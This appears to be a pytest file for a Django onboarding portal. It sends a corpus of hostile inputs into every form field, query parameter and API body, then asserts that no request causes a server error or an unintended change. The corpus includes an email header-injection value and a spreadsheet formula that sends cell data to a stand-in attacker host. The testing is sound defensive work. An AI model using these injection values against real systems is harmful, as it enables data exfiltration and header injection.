"""A hostile corpus over every URL of the role × URL matrix, every field and parameter.

For each URL (the URLconf, as the matrix walks it), the persona the matrix lets act sends the
corpus into every form field it posts (the matrix's valid request plus every field found in the
portal's own HTML forms that submit there) and every query parameter it reads (GET forms on the
pages, the API's generated OpenAPI description), one field at a time, plus bodies of the wrong
content type. Asserted: no 5xx; a refused request (4xx) changed nothing; and afterwards every
page still answers every persona as before. A new URL, form field or API parameter is covered
without editing this test.
"""

import json
from urllib.parse import urlsplit

import pytest
from django.apps import apps
from django.db import connection, transaction
from django.test import Client
from django.urls import Resolver404, resolve

from onboarding.api import api
from onboarding.models import Addon, ApiToken
from onboarding.services.api_tokens import token_create

from .forms_found import forms_in
from .matrix import DENIED, MATRIX, PERSONAS, SETUP, UNCHANGED
from .test_role_matrix import URL_NAMES, build_world, outcome, state_for, url_for

NESTED = "[" * 100000 + "]" * 100000
CORPUS = {
    "NUL": "a\x00b",
    "superscript two": "²",
    "10**19": str(10**19),
    "-1": "-1",
    "year 1": "0001-01-01T00:00:00+01:00",
    "year 9999": "9999-12-31T23:00:00-01:00",
    "CR/LF": "Notebooks\r\nBcc: x@evil.example",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
}
# The large values go into every field of a request at once: one request each per URL keeps
# the run bounded (a megabyte per field per URL would be most of the suite's time).
LARGE = {"100k-deep nesting": NESTED, "1 MB": "x" * 1_000_000}
# In a JSON body the corpus is also typed: numbers and nesting, not only strings.
JSON_CORPUS = {**CORPUS, "int 10**19": 10**19, "int -1": -1, "nested list": [[[[[]]]]]}
# Whom the pages are asked as: everyone who sees an addon (owner2 and anon see none of it).
VIEWERS = ("owner", "architect1", "lead", "sre", "manager")
WRONG_BODIES = {
    "JSON to a form": ('{"a": 1}', "application/json"),
    "multipart without a boundary": ("a=1", "multipart/form-data"),
    "plain text": ("a=1", "text/plain"),
    "form to JSON": ("a=1", "application/x-www-form-urlencoded"),
}
STATES = sorted({state_for(name) for name in URL_NAMES})
# The pages that read what the corpus may have stored (names, texts, counts, buckets).
STORED_DATA_PAGES = (
    "home",
    "addon_list",
    "dashboard",
    "addon_detail",
    "addon_review",
    "addon_timeline",
    "addon_timeline_export",
    "checklist",
    "addon_slos",
    "addon_sops",
    "api:addon_detail",
    "api:addon_timeline",
)


def _name_of(action: str) -> str | None:
    try:
        return resolve(urlsplit(action).path).view_name
    except Resolver404:
        return None


def _api_query_params() -> dict[str, set[str]]:
    """URL name -> the query parameters the generated OpenAPI description declares."""
    document = api.get_openapi_schema()
    params = {}
    for path, operations in document["paths"].items():
        name = _name_of(path.replace("{", "").replace("}", ""))
        for operation in operations.values():
            names = {p["name"] for p in operation.get("parameters", []) if p["in"] == "query"}
            params.setdefault(name, set()).update(names)
    return params


def _count_query() -> str:
    tables = [m._meta.db_table for m in apps.get_app_config("onboarding").get_models()]
    tables.append("auth_user")
    return "SELECT " + ", ".join(f"(SELECT COUNT(*) FROM {t})" for t in tables)  # noqa: S608


def snapshot_of(world) -> dict:
    """Row counts of every table of the portal (one query), and the world's addon row."""
    with connection.cursor() as cursor:
        cursor.execute(_count_query())
        counts = cursor.fetchone()
    return {"counts": counts, "addon": Addon.objects.filter(pk=world.addon.pk).values().get()}


class Run:
    def __init__(self, world, personas):
        self.world = world
        self.personas = personas
        self.problems: list[str] = []
        self.post_fields: dict[str, set[str]] = {}
        self.get_params: dict[str, set[str]] = {}
        self.requests = 0
        self.accepted: list = []
        self.clients: dict[str, Client] = {}
        _, self.read_token = ApiToken.issue(user=personas["owner"], label="corpus")
        self.push_token = None
        if world.addon.state not in ("transitioned", "withdrawn", "rejected"):
            _, self.push_token = token_create(
                addon=world.addon, by=personas["owner"], label="corpus"
            )

    def client(self, name, persona):
        """One client per persona (and per API token), logged in once, outside the savepoints
        the requests run in, so its session outlives every rolled-back request."""
        key = "push" if name == "api:slo_measurements_push" else persona
        key = "api" if name.startswith("api:") and key != "push" else key
        if key not in self.clients:
            client = Client(raise_request_exception=False)
            if key in ("push", "api"):
                token = self.push_token if key == "push" else self.read_token
                client.defaults["HTTP_AUTHORIZATION"] = f"Bearer {token}"
            elif persona != "anon":
                client.force_login(self.personas[persona])
            self.clients[key] = client
        return self.clients[key]

    def pages(self, names=URL_NAMES) -> dict[tuple[str, str], object]:
        """(url name, persona) -> outcome of a GET, for the URLs of this world that answer
        the persona 200 (learning the forms they offer on the way)."""
        seen = {}
        for name in names:
            try:
                url = url_for(name, self.world)
            except AttributeError:  # an object this world has not got (e.g. no checklist yet)
                continue
            for persona in [p for p in VIEWERS if MATRIX[name]["GET"][p] == 200]:
                response = self.client(name, persona).get(url)
                seen[(name, persona)] = outcome(response)
                if response.status_code == 200 and "html" in response.get("Content-Type", ""):
                    self._learn_forms(response.content.decode(), url)
        return seen

    def _learn_forms(self, html, url):
        for form in forms_in(html, url):
            name = _name_of(form.action)
            if name:
                found = self.post_fields if form.method == "POST" else self.get_params
                found.setdefault(name, set()).update(form.fields)

    def check(self, label, name, persona, send):
        """Send one request in a savepoint that is rolled back; record what went wrong."""
        client = self.client(name, persona)
        with transaction.atomic():
            before = snapshot_of(self.world)
            response = send(client)
            after = snapshot_of(self.world)
            transaction.set_rollback(True)
        self.requests += 1
        if "sessionid" in response.cookies:  # logged out (or in): log in afresh next time
            self.clients = {k: v for k, v in self.clients.items() if v is not client}
        if response.status_code >= 500:
            self.problems.append(f"{name} {label} as {persona}: {response.status_code}")
        elif outcome(response) in UNCHANGED and before != after:
            changed = sorted(k for k in before if before[k] != after[k])
            self.problems.append(f"{name} {label} as {persona}: refused but changed {changed}")
        elif before != after:
            self.accepted.append((persona, send))

    def replay_accepted_then_render(self, name):
        """Apply every accepted hostile write to this URL at once, then every page that shows
        stored data must still render for every persona (rolled back afterwards)."""
        if not self.accepted:
            return
        # Clients log in before the savepoint, so their sessions survive its rollback.
        for persona, _ in self.accepted:
            self.client(name, persona)
        for page in STORED_DATA_PAGES:
            for persona in VIEWERS:
                self.client(page, persona)
        with transaction.atomic():
            for persona, send in self.accepted:
                send(self.client(name, persona))
            for page in STORED_DATA_PAGES:
                url = url_for(page, self.world)
                for persona in VIEWERS:
                    status = self.client(page, persona).get(url).status_code
                    if status >= 500:
                        self.problems.append(
                            f"after the accepted {name} corpus: {page} as {persona}: {status}"
                        )
            transaction.set_rollback(True)
        self.accepted = []
        self.clients = {}  # a replayed request may have logged its client out


def _actor(name, method) -> str:
    """The first persona the matrix lets through (else anyone: the refusal is tested too)."""
    row = MATRIX[name][method]
    return next((p for p in PERSONAS if row[p] not in DENIED), "owner")


def _form_data(name, world) -> dict:
    data = SETUP.get(name, {}).get("data", {})
    return data(world) if callable(data) else dict(data)


def _push_row():
    from datetime import UTC, datetime, timedelta

    hour = (datetime.now(tz=UTC) - timedelta(hours=2)).replace(minute=0, second=0, microsecond=0)
    return {"start": hour.isoformat(), "good": 1, "total": 2}


def _corpus_for_post(run, name, url):
    persona = _actor(name, "POST")
    if name == "api:slo_measurements_push":
        for field in ("start", "good", "total"):
            for label, value in JSON_CORPUS.items():
                body = json.dumps([{**_push_row(), field: value}])
                run.check(
                    f"{field}={label}",
                    name,
                    persona,
                    lambda c, b=body: c.post(url, b, content_type="application/json"),
                )
        for label, value in LARGE.items():
            body = json.dumps([{"start": value, "good": value, "total": value}])
            run.check(
                label,
                name,
                persona,
                lambda c, b=body: c.post(url, b, content_type="application/json"),
            )
        run.check(
            "deep body",
            name,
            persona,
            lambda c: c.post(url, NESTED, content_type="application/json"),
        )
    else:
        fields = set(_form_data(name, run.world)) | run.post_fields.get(name, set())
        for field in sorted(fields):
            for label, value in CORPUS.items():
                data = {**_form_data(name, run.world), field: value}
                run.check(f"{field}={label}", name, persona, lambda c, d=data: c.post(url, d))
        for label, value in LARGE.items():
            data = {**_form_data(name, run.world), **dict.fromkeys(fields, value)}
            run.check(f"every field={label}", name, persona, lambda c, d=data: c.post(url, d))
    for label, (body, content_type) in WRONG_BODIES.items():
        run.check(
            label, name, persona, lambda c, b=body, t=content_type: c.post(url, b, content_type=t)
        )


def _corpus_for_get(run, name, url, api_params):
    persona = _actor(name, "GET")
    params = run.get_params.get(name, set()) | api_params.get(name, set())
    for param in sorted(params):
        for label, value in CORPUS.items():
            run.check(f"?{param}={label}", name, persona, lambda c, p={param: value}: c.get(url, p))
    if params:
        # A megabyte in a query string is refused by the server in front; 100 KB here.
        big = dict.fromkeys(params, "x" * 100_000)
        run.check("?every parameter=100 KB", name, persona, lambda c: c.get(url, big))


@pytest.mark.parametrize("state", STATES)
def test_the_hostile_corpus_gets_no_5xx_and_changes_nothing_it_refuses(state, make_addon, personas):
    world = build_world(make_addon, personas, state)
    run = Run(world, personas)
    before = run.pages()  # and learns the forms
    api_params = _api_query_params()
    for name in [n for n in URL_NAMES if state_for(n) == state]:
        url = url_for(name, world)
        _corpus_for_get(run, name, url, api_params)
        _corpus_for_post(run, name, url)
        run.replay_accepted_then_render(name)
    # Every request was rolled back: nothing may have leaked (a cache, a session, a file).
    after = run.pages(STORED_DATA_PAGES)
    changed = {key: (before[key], after[key]) for key in after if before[key] != after[key]}
    assert not run.problems, "\n".join(run.problems)
    assert not changed, f"pages answer differently after the corpus: {changed}"
    assert not [k for k, v in after.items() if isinstance(v, int) and v >= 500]
    assert run.requests > 0


def test_the_corpus_reaches_every_field_of_the_api_description():
    params = _api_query_params()
    assert params["api:addon_list"] >= {"page", "page_size", "state"}
    assert params["api:addon_timeline"] >= {"page", "page_size", "kind"}
